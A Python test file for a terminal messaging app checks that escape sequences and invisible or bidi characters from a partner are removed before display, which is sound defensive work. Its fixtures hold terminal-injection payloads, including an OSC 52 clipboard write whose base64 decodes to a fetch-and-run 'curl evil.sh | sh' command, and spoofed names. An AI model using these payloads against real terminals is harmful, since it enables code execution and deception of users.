"""A partner's text never controls the terminal: escape sequences sent through a real relay,
and names spoofed with invisible characters (docs/text-safety.md)."""

from __future__ import annotations

import json
from datetime import UTC, datetime

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from reconnect_tui import wire
from reconnect_tui.cli import app
from reconnect_tui.sync import messages
from reconnect_tui.text_safety import is_terminal_safe
from tests.dyads.dyad_helpers import Person, pair
from tests.support.vaults import PASSPHRASE

runner = CliRunner()

HOSTILE = ("Hei Kari\x1b]0;You have been hacked\x07\x07, ring meg"
           "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2K\x1b[1A\x9b31m i morgen")
"""A title change, a bell, a clipboard write (OSC 52), line erase, cursor up, 8-bit CSI."""


def run(*args: str):
    return runner.invoke(app, list(args), env={"RECONNECT_PASSPHRASE": PASSPHRASE})


def send_raw(sender: Person, partner_id: int, text: str) -> None:
    """What a modified client can do: encrypt any text, without ReConnect's sanitiser."""
    dyads = sender.dyads
    record = dyads.repo.partner(partner_id)
    assert record is not None
    counter = record.sent_counter + 1
    inner = messages.DyadPlaintext("message", wire.new_id(), dyads.identity_key, record.ed25519,
                           datetime.now(UTC), counter, {"text": text})
    pickle, outgoing = dyads._encrypt_to(record, inner)
    dyads.repo.record_sent(partner_id, pickle, counter, None, outgoing)


def rename(person: Person, name: str) -> None:
    """A vault whose profile name holds raw control characters (an older or modified client)."""
    with person.vault.transaction() as conn:
        conn.execute("UPDATE meta SET value = ? WHERE key = 'name'", (name,))


def test_osc_title_and_bell_from_a_provider_never_reach_message_list(provider, user) -> None:
    on_provider, _on_user = pair(provider, user)
    send_raw(provider, on_provider.id, HOSTILE)
    provider.sync()
    user.sync()
    [received] = user.dyads.conversation(user.dyads.partners()[0].id)
    assert received.text == "Hei Kari, ring meg i morgen"  # cleaned before it was stored
    with user.vault.read() as conn:
        [stored] = conn.execute("SELECT text FROM messages").fetchall()
    assert stored[0] == "Hei Kari, ring meg i morgen"
    user.vault.close()

    plain = run("message", "list", "--vault", str(user.path))
    assert plain.exit_code == 0, plain.output
    assert "Hei Kari, ring meg i morgen" in plain.stdout
    assert is_terminal_safe(plain.output) and "\x07" not in plain.output
    as_json = run("message", "list", "--json", "--vault", str(user.path))
    assert json.loads(as_json.stdout)[0]["text"] == "Hei Kari, ring meg i morgen"
    assert "\\u001b" not in as_json.stdout and "\\u0007" not in as_json.stdout


def test_raw_text_an_older_vault_kept_is_cleaned_on_the_way_out(provider, user) -> None:
    """Defence at output: text stored before the sanitiser existed is cleaned when printed."""
    on_provider, _on_user = pair(provider, user)
    provider.dyads.send(on_provider.id, "placeholder")
    with provider.vault.transaction() as conn:
        conn.execute("UPDATE messages SET text = ?, about_module = 'goals', about_item_id = 1,"
                     " about_title = ?", (HOSTILE, "Sove\x1b[5mbedre"))
        conn.execute("UPDATE partners SET name = ?", ("\x1b]0;pwned\x07Kari\u202e Nordmann",))
    provider.vault.close()
    for args in (["message", "list"], ["message", "list", "--json"], ["pair", "list"],
                 ["pair", "list", "--json"]):
        result = run(*args, "--vault", str(provider.path))
        assert result.exit_code == 0, result.output
        assert is_terminal_safe(result.output) and "\x07" not in result.output, args
        assert "\\u001b" not in result.output and "\\u202e" not in result.output.lower()
    listed = run("message", "list", "--vault", str(provider.path)).stdout
    assert "[Sovebedre]: Hei Kari, ring meg i morgen" in listed
    assert "Kari<U+202E> Nordmann" in run("pair", "list", "--vault", str(provider.path)).stdout


def test_a_partner_name_spoofed_with_invisible_characters_is_shown_with_them(
        provider, user) -> None:
    rename(provider, "Dr Lind\u200b\x1b[8m")  # looks like "Dr Lind" on a terminal
    rename(user, "\x1b]0;x\x07Kari\u202eNordmann")
    pair(provider, user)
    [dr] = user.dyads.partners()
    assert dr.name == "Dr Lind<U+200B>"
    [kari] = provider.dyads.partners()
    assert kari.name == "Kari<U+202E>Nordmann"
    user.vault.close()
    listed = run("pair", "list", "--vault", str(user.path))
    assert "Dr Lind<U+200B>" in listed.stdout and is_terminal_safe(listed.output)


_PAIRED: set = set()
STORABLE = st.text(st.characters(codec="utf-8"), min_size=1)
"""Any Unicode SQLite can hold: everything but lone surrogates."""


@settings(max_examples=6, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(STORABLE, min_size=3, max_size=3))
def test_cli_output_is_clean_whatever_the_vault_holds(provider, user, texts) -> None:
    """Arbitrary Unicode as a message, an "about" title and a partner name, stored raw (as an
    older vault or a modified partner could leave them): `message list`, as text and as JSON,
    prints no ESC, C1 control or bidi override. Each example unlocks the
    vault for real (Argon2id), hence few examples; tests/cli/test_cli_text_safety.py runs the
    printing choke point itself over many more."""
    if provider.path not in _PAIRED:  # once per test: the fixtures last the whole test
        _PAIRED.add(provider.path)
        on_provider, _on_user = pair(provider, user)
        provider.dyads.send(on_provider.id, "placeholder")
        provider.vault.close()
    from reconnect_tui.store import Vault

    key, header = provider.template.key, provider.template.header
    with Vault.open_with_key(provider.path, key, header) as vault, vault.transaction() as conn:
        conn.execute("UPDATE messages SET text = ?, about_module = 'goals', outgoing = 0,"
                     " about_item_id = 1, about_title = ?", (texts[0], texts[1]))
        conn.execute("UPDATE partners SET name = ?", (texts[2],))
    for args in (["message", "list"], ["message", "list", "--json"]):
        result = run(*args, "--vault", str(provider.path))
        assert result.exit_code == 0, result.output
        for line in result.output.splitlines():
            assert is_terminal_safe(line) and "\x07" not in line, (args, line)


async def test_osc_title_and_bell_never_reach_the_app_screen(provider, user) -> None:
    """The same message through the real relay, shown by the service user's app: no ESC, BEL
    or C1 in any line the app renders, and the words themselves are there."""
    from reconnect_tui.screens.messages import ConversationScreen, MessageBubble
    from tests.pilot import SIZE, make_app, unlock, wait_for
    from tests.rendered import rendered_lines, unsafe_lines

    on_provider, _on_user = pair(provider, user)
    send_raw(provider, on_provider.id, HOSTILE)
    provider.sync()
    user.sync()
    user.vault.close()
    app = make_app(user.path)
    async with app.run_test(size=SIZE) as pilot:
        await unlock(pilot)
        await pilot.press("s")  # Messages; one provider: straight into the conversation
        await wait_for(pilot, lambda: isinstance(app.screen, ConversationScreen)
                       and len(app.screen.query(MessageBubble)) == 1)
        await pilot.pause()
        lines = rendered_lines(app)
        assert any("Hei Kari, ring meg i morgen" in line for line in lines)
        assert unsafe_lines(lines) == []


def test_a_shared_item_with_escape_codes_reaches_the_provider_clean(provider, user) -> None:
    """A goal and a crisis plan an older vault kept raw, shared: the provider's vault, its
    `shared list`/`shared show` and the read-only view hold no escape code."""
    from reconnect_tui.store import Toolbox
    from reconnect_tui.sync.sharing import Sharing

    _on_provider, on_user = pair(provider, user)
    with user.vault.transaction() as conn:
        goal_id = conn.execute("INSERT INTO goals(title, why, notes, position) VALUES (?, ?, ?,"
                               " 0)", ("Svømme\x1b]0;x\x07 på søndager", HOSTILE, "")).lastrowid
        conn.execute("UPDATE crisis_plan SET warning_signs = ? WHERE id = 1", (HOSTILE,))
    sharing = Sharing(user.vault)
    sharing.share("goals", goal_id, on_user.id)
    sharing.share("crisis-plan", None, on_user.id)
    user.sync()
    provider.sync()
    with provider.vault.read() as conn:
        held = " ".join(str(v) for row in conn.execute(
            "SELECT title, snapshot FROM received_items") for v in row)
    assert "Svømme på søndager" in held and "\\u001b" not in held and "\x1b" not in held
    kari = provider.dyads.partners()[0].id
    view = Sharing(provider.vault).view(kari)
    assert isinstance(view, Toolbox)
    assert view.crisis_plan.get().warning_signs == "Hei Kari, ring meg i morgen"
    provider.vault.close()
    for args in (["shared", "list"], ["shared", "show", "Kari Nordmann", "goals"],
                 ["shared", "show", "Kari Nordmann", "crisis-plan", "--json"]):
        result = run(*args, "--vault", str(provider.path))
        assert result.exit_code == 0, result.output
        assert is_terminal_safe(result.output) and "\x07" not in result.output, args
        assert "\\u001b" not in result.output
